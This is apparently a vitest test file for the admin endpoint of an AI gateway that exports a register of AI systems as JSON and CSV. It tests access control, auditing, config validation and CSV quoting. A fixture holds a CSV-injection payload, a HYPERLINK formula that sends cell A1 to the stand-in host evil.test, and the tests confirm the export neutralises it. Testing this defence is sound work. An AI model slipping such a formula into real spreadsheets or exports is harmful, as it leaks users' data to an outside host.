import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '../src/assistant/register/csv.ts';
import '../src/assistant/usage/usage.tables.ts';
import { ConfigError, loadConfig } from '../src/config.ts';
import { DEMO_AGENTS } from '../src/identity/demo-data.ts';
import { uuidv7 } from '../src/platform/ids.ts';
import { startTestApp, type TestApp, type TestSession } from './support/app.ts';

/**
 * The register of the AI systems in use (issue 7): configuration (aiProviders + aiRegister) merged
 * with the volumes of `ai_usage` in both cells; JSON and CSV for operators only, audited; CSV that
 * a spreadsheet opens without running anything.
 */
const [camille, hugo, emilie, olivier] = DEMO_AGENTS as unknown as [(typeof DEMO_AGENTS)[number], (typeof DEMO_AGENTS)[number], (typeof DEMO_AGENTS)[number], (typeof DEMO_AGENTS)[number]];

const HOSTILE_PURPOSE = '=HYPERLINK("http://evil.test/?"&A1,"clic")';
const TRICKY_CATEGORY = 'documents « de travail », avec "guillemets"\net retour à la ligne';

function configFile(dir: string, register: unknown): string {
  const file = path.join(dir, `entente-${Math.random().toString(36).slice(2)}.json`);
  writeFileSync(
    file,
    JSON.stringify({
      aiProviders: [
        {
          id: 'vllm-fr',
          baseUrl: 'http://127.0.0.1:9/v1',
          models: [
            { name: 'mistral-small-3.2-24b', alias: 'entente-small', kind: 'chat' },
            { name: 'bge-m3', alias: 'entente-embed', kind: 'embeddings' },
          ],
          jurisdiction: 'FR',
          maxClassification: 'diffusion-restreinte',
        },
        {
          id: 'ollama-qc',
          baseUrl: 'http://127.0.0.1:9/v1',
          models: [{ name: 'mistral-small:24b', alias: 'entente-small', kind: 'chat' }],
          jurisdiction: 'QC',
          maxClassification: 'non-protege',
        },
      ],
      aiRegister: register,
    }),
  );
  return file;
}

let t: TestApp;
let dir: string;
let operator: TestSession;
let admin: TestSession;

async function insert(cell: 'FR' | 'QC', principalId: string, model: string, at: string, prompt: number, completion: number, provider = 'vllm-fr') {
  await t.entente.stores.cells[cell].db
    .insertInto('ai_usage')
    .values({
      id: uuidv7(),
      principal_id: principalId,
      organisation_id: null,
      model,
      provider,
      provider_jurisdiction: cell,
      endpoint: 'chat.completions',
      stream: false,
      status: 200,
      prompt_tokens: prompt,
      completion_tokens: completion,
      duration_ms: 100,
      ttft_ms: null,
      energy_wh: 0.25,
      emissions_gco2e: 0.01,
      created_at: new Date(at),
    })
    .execute();
}

beforeAll(async () => {
  dir = mkdtempSync(path.join(tmpdir(), 'entente-ai-register-'));
  const file = configFile(dir, {
    contact: 'ia@numerique.demo-gouv-fr.test',
    providers: { 'vllm-fr': { purposes: ['Aide à la rédaction'], dataCategories: ['Documents de travail'], legalBasis: 'RGPD art. 6.1.e (mission d’intérêt public)' } },
    models: {
      'entente-small': { purposes: [HOSTILE_PURPOSE, 'Aide à la rédaction'], dataCategories: [TRICKY_CATEGORY], contact: '+33 1 00 00 00 00' },
    },
  });
  t = await startTestApp({ env: { ENTENTE_CONFIG: file } });
  operator = await t.signIn(camille);
  admin = await t.signIn(emilie);
  await insert('FR', hugo.id, 'entente-small', '2026-03-01T10:00:00Z', 100, 10);
  await insert('FR', hugo.id, 'entente-small', '2026-03-02T10:00:00Z', 200, 20);
  await insert('FR', camille.id, 'entente-small', '2026-03-03T10:00:00Z', 1, 1);
  await insert('QC', olivier.id, 'entente-small', '2026-03-04T10:00:00Z', 1000, 100, 'ollama-qc');
  // A model no longer offered, used in the period: still declared.
  await insert('QC', emilie.id, 'old-model', '2026-02-01T10:00:00Z', 5, 5, 'retired-provider');
  // Out of the period.
  await insert('FR', hugo.id, 'entente-small', '2025-12-31T23:59:59Z', 9999, 9999);
});
afterAll(async () => {
  await t?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

const YEAR = 'from=2026-01-01&to=2026-12-31';

describe('GET /api/admin/ai-register', () => {
  it('lists each model with its providers, where they run, what operators declared, and its volumes from both cells', async () => {
    const response = await fetch(`${t.baseUrl}/api/admin/ai-register?${YEAR}`, { headers: { cookie: operator.cookie } });
    expect(response.status).toBe(200);
    const body = (await response.json()) as { from: string; to: string; contact: string; systems: { model: string; volumes: { energyWh: number } }[] };
    expect(body).toMatchObject({ from: '2026-01-01', to: '2026-12-31', contact: 'ia@numerique.demo-gouv-fr.test' });
    expect(body.systems.map((s) => s.model)).toEqual(['entente-embed', 'entente-small', 'old-model']);
    const [embed, small, old] = body.systems;
    expect(small).toMatchObject({
      kind: 'chat',
      configured: true,
      upstreamModels: ['mistral-small-3.2-24b', 'mistral-small:24b'],
      providers: ['ollama-qc', 'vllm-fr'],
      jurisdictions: ['FR', 'QC'],
      maxClassifications: ['diffusion-restreinte', 'non-protege'],
      // The model's own entry wins over its provider's, field by field.
      purposes: [HOSTILE_PURPOSE, 'Aide à la rédaction'],
      dataCategories: [TRICKY_CATEGORY],
      legalBasis: 'RGPD art. 6.1.e (mission d’intérêt public)',
      contact: '+33 1 00 00 00 00',
      volumes: { requests: 4, errors: 0, promptTokens: 1301, completionTokens: 131, agents: 3, firstUse: '2026-03-01T10:00:00.000Z', lastUse: '2026-03-04T10:00:00.000Z' },
    });
    expect(small?.volumes.energyWh).toBeCloseTo(1, 10);
    // Only its provider's entry applies; the register's contact by default.
    expect(embed).toMatchObject({ kind: 'embeddings', purposes: ['Aide à la rédaction'], dataCategories: ['Documents de travail'], contact: 'ia@numerique.demo-gouv-fr.test', volumes: { requests: 0, agents: 0, firstUse: null } });
    expect(old).toMatchObject({ configured: false, kind: null, providers: ['retired-provider'], jurisdictions: [], purposes: [], volumes: { requests: 1, agents: 1 } });
    const audit = await t.entente.audit.list({ action: 'ai.register.exported', limit: 5 });
    expect(audit[0]).toMatchObject({ actor_id: camille.id, details: { format: 'json', from: '2026-01-01', to: '2026-12-31', systems: 3 } });
  });

  it('is described in the OpenAPI document, with the dashboards', async () => {
    const spec = (await (await fetch(`${t.baseUrl}/api/openapi.json`)).json()) as { paths: Record<string, Record<string, { summary?: string; parameters?: { name: string }[] }>> };
    expect(spec.paths['/api/admin/ai-register']?.get?.summary).toMatch(/^Register of the AI systems in use/);
    expect(spec.paths['/api/admin/ai-register.csv']?.get?.parameters?.map((p) => p.name)).toEqual(['from', 'to']);
    expect(spec.paths['/api/assistant/usage/me']?.get?.summary).toMatch(/^My use of the AI gateway/);
    expect(spec.paths['/api/assistant/usage/organisations/{id}']?.get).toBeDefined();
  });

  it('covers the last twelve months by default', async () => {
    const body = (await (await fetch(`${t.baseUrl}/api/admin/ai-register`, { headers: { cookie: operator.cookie } })).json()) as { from: string; to: string };
    const to = new Date().toISOString().slice(0, 10);
    expect(body.to).toBe(to);
    expect((Date.parse(body.to) - Date.parse(body.from)) / 86_400_000).toBe(364);
  });

  it('is for operators only; bad ranges are refused', async () => {
    for (const suffix of ['', '.csv']) {
      expect((await fetch(`${t.baseUrl}/api/admin/ai-register${suffix}`, { headers: { cookie: admin.cookie } })).status).toBe(403);
      expect((await fetch(`${t.baseUrl}/api/admin/ai-register${suffix}`)).status).toBe(401);
      expect((await fetch(`${t.baseUrl}/api/admin/ai-register${suffix}?from=2025-01-01&to=2026-12-31`, { headers: { cookie: operator.cookie } })).status).toBe(400);
    }
    const denied = await t.entente.audit.list({ action: 'ai.register.exported', limit: 20 });
    expect(denied.some((e) => e.actor_id === emilie.id)).toBe(false);
  });
});

/** A strict RFC 4180 reader, to check what a spreadsheet would read. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      expect(c, `bare ${JSON.stringify(c)} at ${i}`).not.toMatch(/[\r\n"]/);
      field += c;
    }
  }
  expect(field).toBe('');
  expect(row).toEqual([]);
  return rows;
}

describe('GET /api/admin/ai-register.csv', () => {
  it('downloads RFC 4180 CSV with a header row, quoting right and no formula', async () => {
    const response = await fetch(`${t.baseUrl}/api/admin/ai-register.csv?${YEAR}`, { headers: { cookie: operator.cookie } });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="entente-ai-register-2026-01-01-2026-12-31.csv"');
    const text = await response.text();
    const rows = parseCsv(text);
    const header = rows[0] as string[];
    expect(header.slice(0, 4)).toEqual(['model', 'kind', 'configured', 'upstream_models']);
    expect(rows.every((r) => r.length === header.length)).toBe(true);
    const small = Object.fromEntries(header.map((h, i) => [h, (rows.find((r) => r[0] === 'entente-small') as string[])[i]]));
    expect(small).toMatchObject({
      purposes: `'${HOSTILE_PURPOSE}; Aide à la rédaction`,
      data_categories: TRICKY_CATEGORY,
      // A phone number starting with + would be read as a formula.
      contact: "'+33 1 00 00 00 00",
      jurisdictions: 'FR; QC',
      requests: '4',
      prompt_tokens: '1301',
      agents: '3',
      period_from: '2026-01-01',
    });
    // No cell of the file starts a formula.
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const audit = await t.entente.audit.list({ action: 'ai.register.exported', limit: 1 });
    expect(audit[0]).toMatchObject({ actor_id: camille.id, details: { format: 'csv' } });
  });

  it('csvCell: quotes what RFC 4180 asks, neutralises formulas, keeps numbers', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('=A1,"x"')).toBe(`"'=A1,""x"""`);
    expect(csvCell(-2)).toBe('-2');
    expect(csvCell(0.5)).toBe('0.5');
    expect(csvCell(null)).toBe('');
    expect(csvCell(true)).toBe('true');
    expect(toCsv([['a', 'b'], [1, null]])).toBe('a,b\r\n1,\r\n');
  });
});

describe('ENTENTE_CONFIG aiRegister', () => {
  it('is validated at start: unknown aliases and providers, unknown fields, wrong types are named', () => {
    for (const [register, expected] of [
      [{ models: { 'entente-smal': { purposes: ['x'] } } }, 'aiRegister.models "entente-smal"'],
      [{ providers: { 'vllm-qc': { purposes: ['x'] } } }, 'aiRegister.providers "vllm-qc"'],
      [{ models: { 'entente-small': { purpose: ['x'] } } }, 'aiRegister.models.entente-small'],
      [{ contact: 42 }, 'aiRegister.contact'],
      [{ models: { 'entente-small': { purposes: [''] } } }, 'aiRegister.models.entente-small.purposes.0'],
    ] as const) {
      try {
        loadConfig({ ENTENTE_CONFIG: configFile(dir, register), ENTENTE_DATA_DIR: dir });
        expect.unreachable(expected);
      } catch (error) {
        expect(error, expected).toBeInstanceOf(ConfigError);
        expect((error as ConfigError).message).toContain(expected);
      }
    }
    const ok = loadConfig({ ENTENTE_CONFIG: configFile(dir, { providers: { 'ollama-qc': { legalBasis: 'Loi 25' } } }), ENTENTE_DATA_DIR: dir });
    expect(ok.aiRegister).toEqual({ contact: null, models: {}, providers: { 'ollama-qc': { legalBasis: 'Loi 25' } } });
  });
});

// ── review fixes (helper R1) ──
describe('the register and requests for models that do not exist', () => {
  it('records them as `(unknown)` (the audit keeps the name asked for), counted apart, never an AI system in use', async () => {
    const invented = ['modele-invente-1', 'modele-invente-2'];
    for (const model of invented) {
      const response = await fetch(`${t.baseUrl}/ai/v1/chat/completions`, {
        method: 'POST',
        headers: { ...operator.headers, 'content-type': 'application/json' },
        body: JSON.stringify({ model, messages: [{ role: 'user', content: 'Bonjour' }] }),
      });
      expect(response.status).toBe(404);
    }
    const usage = async () => t.entente.stores.cells.FR.db.selectFrom('ai_usage').select(['model', 'status']).where('principal_id', '=', camille.id).where('status', '=', 404).execute();
    const until = Date.now() + 10_000;
    while ((await usage()).length < 2 && Date.now() < until) await new Promise((r) => setTimeout(r, 50));
    expect((await usage()).map((r) => r.model)).toEqual(['(unknown)', '(unknown)']);
    const audited = await t.entente.audit.list({ jurisdiction: 'FR', action: 'ai.request', actorId: camille.id, limit: 10 });
    expect(audited.map((e) => e.resource_id).sort()).toEqual(invented);

    const response = await fetch(`${t.baseUrl}/api/admin/ai-register?${YEAR}`, { headers: { cookie: operator.cookie } });
    const text = await response.text();
    const body = JSON.parse(text) as { systems: { model: string }[]; unknownModelRequests: number };
    expect(body.systems.map((s) => s.model)).toEqual(['entente-embed', 'entente-small', 'old-model']);
    expect(body.unknownModelRequests).toBe(2);
    expect(text).not.toContain('modele-invente');
    const csv = await (await fetch(`${t.baseUrl}/api/admin/ai-register.csv?${YEAR}`, { headers: { cookie: operator.cookie } })).text();
    expect(csv).not.toContain('(unknown)');
  });
});
// ── end review fixes ──
